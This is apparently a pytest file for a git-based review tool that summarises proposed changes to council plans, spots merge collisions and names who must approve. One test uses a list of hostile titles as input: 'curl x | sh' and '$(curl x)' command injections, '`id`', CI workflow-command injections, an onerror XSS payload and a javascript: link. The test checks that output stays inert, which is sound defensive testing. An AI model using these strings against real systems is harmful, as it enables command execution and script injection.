"""Propose, review, collide, approve, publish: with real git, from a change in a file to what a resident
reads.
"""

import json

HILL = "plans/hill.yml"
GARDEN = "  - {id: garden, title: Community garden, status: proposed}\n"
HALL = "  - {id: hall, title: Village hall, status: proposed}\n"


def moved_two(text):
    """The plan with both ideas taken up as projects."""
    return text.replace(
        "future_priorities:\n" + GARDEN + HALL,
        'future_priorities: {none_reason: "All are taken up", as_of: 2026-11-20}\n',
    ).replace(
        'projects: {none_reason: "No projects are known yet", as_of: 2026-11-01}\n',
        "projects:\n" + GARDEN + HALL,
    )


def proposal(place, name="proposal"):
    """A branch on which two items move, a date slips and a comma is put right."""
    place.git("switch", "--quiet", "-c", name)
    place.write({HILL: moved_two(place.read(HILL))})
    place.edit(
        HILL,
        ("due: 2027-06", 'due: 2027-09\n    reason: "The builder is ill"'),
        ("beside the school, with lights", "beside the school with lights"),
        note="The crossing comes later. The garden and the hall are projects now.",
        on="2026-11-20",
    )
    place.commit("The crossing comes later")


def test_a_small_review_is_under_ten_lines(place):
    """Two items moved, a date slipped, a comma put right: just that is said."""
    proposal(place)
    code, said = place.plans("review", "--base", "main")
    lines = [line for line in said.splitlines() if line]
    assert code == 0 and len(lines) < 10
    assert lines == [
        "What this proposal changes",
        "Hill: 2 moved on, 1 date put off, 1 corrected",
        "- “Community garden” moved from “Future ideas” to “Community projects and activities”.",
        "- “Village hall” moved from “Future ideas” to “Community projects and activities”.",
        (
            "- The due date of “New crossing” moved from June 2027 to September 2027. (a promise) Why: The"
            " builder is ill"
        ),
        (
            "- Description of “New crossing” changed from “… crossing beside the school, with lights.” to “…"
            " crossing beside the school with lights.”."
        ),
        "What residents would read",
        "- Hill: The crossing comes later. The garden and the hall are projects now.",
        "The check found nothing that stops it. Who must agree: @head, @manager.",
    ]


def test_propose_review_collide_approve_publish(place):
    proposal(place)
    place.git("switch", "--quiet", "main")
    # Meanwhile somebody else's change of the same date is merged.
    place.git("switch", "--quiet", "-c", "other")
    place.edit(
        HILL,
        ("due: 2027-06", 'due: 2027-12\n    reason: "Gas pipes"'),
        note="The pipes come first",
        on="2026-11-19",
    )
    place.commit("Gas pipes first")
    place.git("switch", "--quiet", "main")
    place.git("merge", "--quiet", "--no-ff", "--no-edit", "-m", "Merge the gas pipes", "other")
    place.git("switch", "--quiet", "proposal")

    code, said = place.plans("review", "--base", "main")
    assert code == 1 and "It no longer fits" in said
    line = next(line for line in said.splitlines() if "Merged meanwhile" in line)
    assert line.startswith(
        "- Hill. Here: The due date of “New crossing” moved from June 2027 to September 2027. Merged"
        " meanwhile: The due date of “New crossing” moved from June 2027 to December 2027. (the change “Merge"
        " the gas pipes” of "
    )
    assert line.endswith(" Decide which of the two holds.")
    assert "December 2027" not in said.split("It no longer fits")[0], (
        "what others merged is not said to be the proposal's"
    )
    data = json.loads(place.plans("review", "--base", "main", "--format", "json")[1])
    assert (
        data["fits"] is False
        and [one["path"] for one in data["collisions"]] == [HILL]
        and data["conflicting"] == [HILL]
    )

    # They agree on the later date; the proposal is brought up to date.
    place.git("merge", "--quiet", "main", check=False)
    text = place.git("show", "main:plans/hill.yml") + "\n"
    place.write({HILL: moved_two(text)})
    place.edit(
        HILL,
        ("beside the school, with lights", "beside the school with lights"),
        note="The garden and the hall are projects now.",
        on="2026-11-20",
    )
    place.commit("Bring it up to date")
    code, said = place.plans("review", "--base", "main")
    assert (code, "It no longer fits" in said) == (0, False)
    assert "due date" not in said

    place.git("switch", "--quiet", "main")
    place.git("merge", "--quiet", "--no-edit", "proposal")
    assert place.errors() == []
    assert "December 2027" not in place.pages()["plans/hill/"], (
        "what is merged is a draft until an edition publishes it"
    )
    place.publish("Second", day="2026-11-21")
    page = place.pages()["plans/hill/"]
    assert (
        "December 2027" in page
        and "The due date of “New crossing” moved from June 2027 to December 2027"
        in place.pages()["plans/hill/history/"]
    )


def test_other_rows_and_the_same_words_do_not_collide(place):
    place.git("switch", "--quiet", "-c", "proposal")
    place.edit(HILL, ("title: Play area", "title: A play area"), ("due: 2027-06", "due: 2027-09"))
    place.commit()
    place.git("switch", "--quiet", "main")
    place.edit(HILL, ("due: 2027-06", "due: 2027-09"), ("title: Put up signs", "title: Put up more signs"))
    place.commit("Another")
    place.git("switch", "--quiet", "proposal")
    assert "It no longer fits" not in place.plans("review", "--base", "main")[1]


def test_a_change_of_what_was_taken_out_collides(place):
    place.git("switch", "--quiet", "-c", "proposal")
    place.edit(HILL, ("title: Village hall", "title: Town hall"))
    place.commit()
    place.git("switch", "--quiet", "main")
    place.edit(HILL, (HALL, ""))
    place.commit("No hall")
    place.git("switch", "--quiet", "proposal")
    said = place.plans("review", "--base", "main")[1]
    assert (
        "Here: “Village hall” is now called “Town hall”. Merged meanwhile: “Village hall” was removed. (the"
        " change “No hall”" in said
    )


def test_two_notes_at_one_place_are_said_to_be_that(place):
    """No item says two things, and still git cannot put the texts together."""
    place.git("switch", "--quiet", "-c", "proposal")
    place.edit(HILL, ("title: Play area", "title: A play area"), note="One")
    place.commit()
    place.git("switch", "--quiet", "main")
    place.edit(HILL, ("title: Put up signs", "title: Put up more signs"), note="Two")
    place.commit()
    place.git("switch", "--quiet", "proposal")
    code, said = place.plans("review", "--base", "main")
    assert (
        code == 1
        and "- plans/hill.yml: git cannot put the two texts together by itself." in said
        and "Merged meanwhile" not in said
    )


EVIL = [
    '"; curl x | sh #',
    "::set-output name=x::y",
    "::stop-commands::x",
    "$(curl x)",
    "`id`",
    "<img src=x onerror=alert(1)>",
    "@everyone [x](javascript:alert(1))",
    "##[error]x",
    "a\r\n::error::b",
]


def test_hostile_titles_do_nothing(place):
    """As the title of an item, of a plan and of a commit; in every form; no line begins with what a runner
    would obey.
    """
    for number in range(0, len(EVIL), 3):
        place.git("switch", "--quiet", "-c", f"evil-{number}", "main")
        names = ("title: Village hall", "title: Community garden", "title: Play area")
        place.edit(
            HILL,
            *(
                (name, f"title: {json.dumps(words)}")
                for name, words in zip(names, EVIL[number:], strict=False)
            ),
            ("due: 2027-06", "due: 2028-01"),
            note=EVIL[number].replace('"', "'"),
        )
        place.commit("Evil")
        place.git("switch", "--quiet", "-c", f"good-{number}", "main")
        place.edit(HILL, ("due: 2027-06", "due: 2029-01"))
        place.commit(EVIL[number + 2])
        place.git("switch", "--quiet", f"evil-{number}")
        for form in ("text", "markdown", "html", "json"):
            said = place.plans("review", "--base", f"good-{number}", "--format", form)[1]
            assert "fits" in said
            assert not any(line.lstrip().startswith(("::", "##[")) for line in said.splitlines()), (
                form,
                said,
            )
            if form == "html":
                assert "<img" not in said and "<a " not in said
            if form == "markdown":
                assert (
                    "@everyone" not in said
                    and "<img" not in said
                    and "](" not in said.replace("\\](", "").replace("]\\(", "")
                )
            if form == "json":
                json.loads(said)


def test_it_says_who_must_agree_and_where_to_look(place):
    place.git("switch", "--quiet", "-c", "proposal")
    place.edit(HILL, ("title: Village hall", "title: Town hall"), note="A new name")
    place.edit(
        "plans/council-settings.yml",
        ("mailbox: plans@example.org", "mailbox: new@example.org"),
        ('account: "@head"', 'account: "@friend"'),
    )
    place.commit()
    said = place.plans(
        "review",
        "--base",
        "main",
        "--format",
        "markdown",
        "--preview",
        "https://preview.example.org/proposal-7/",
    )[1]
    assert (
        "### Beside the plans" in said
        and "- How the site is run: Mailbox changed from plans@\u200bexample.org" in said.replace("\\", "")
    )
    assert "Who must agree: @\u200bexample/comms, @\u200bhead, @\u200bmanager." in said, (
        "those that the main branch names, not those of the proposal"
    )
    assert "<https://preview.example.org/proposal-7/plans/hill/>" in said
    assert place.plans("review", "--base", "main", "--preview", "javascript:x")[0] == 2


def test_what_is_no_content_is_pointed_out(place):
    """A change of a workflow, hidden behind a comma."""
    place.edit(
        "plans/council-settings.yml",
        ("approvers:", 'approvers:\n  - {post: Digital, account: "@digital", approves: [everything]}'),
    )
    place.commit()
    place.git("switch", "--quiet", "-c", "proposal")
    place.edit(HILL, ("beside the school, with", "beside the school with"))
    place.write({".github/workflows/x.yml": "on: push\n"})
    place.commit()
    said = place.plans("review", "--base", "main")[1]
    assert "- No content: .github/workflows/x.yml. The preview does not have it" in said
    assert "Who must agree: @head, @manager, @digital." in said


def test_each_file_that_is_no_content_is_named(place):
    """However many there are: the one that is not named would be the one that does harm.

    In a comment they stay words.
    """
    place.git("switch", "--quiet", "-c", "proposal")
    paths = [f"look/{number:02}.css" for number in range(40)] + [
        "tools/community_plans-9-py3-none-any.whl",
        "mkdocs.yml",
        "site_overrides/main.html",
        "hooks/run.py",
        ".github/workflows/review.yml",
        ".gitlab-ci.yml",
        ".ci/judge",
        "requirements.lock",
        ".gitattributes",
        "a name, with @everyone [x](y) and <b>.txt",
    ]
    place.write(dict.fromkeys(paths, "x\n"))
    place.commit()
    said = place.plans("review", "--base", "main")[1]
    assert all(path in said for path in paths) and " more" not in said
    as_comment = place.plans("review", "--base", "main", "--format", "markdown")[1]
    assert "@everyone" not in as_comment and "<b>" not in as_comment and "[x](" not in as_comment


def test_a_suggestion_is_told_beside_the_plans(place):
    place.git("switch", "--quiet", "-c", "proposal")
    place.plans("suggestion", "new", "hill/crossing", "--words", "Could it have a light?")
    said = place.plans("review", "--base", "main")[1]
    assert said.splitlines()[:3] == [
        "What this proposal changes",
        "Beside the plans",
        "- A suggestion was recorded, about hill/crossing.",
    ]
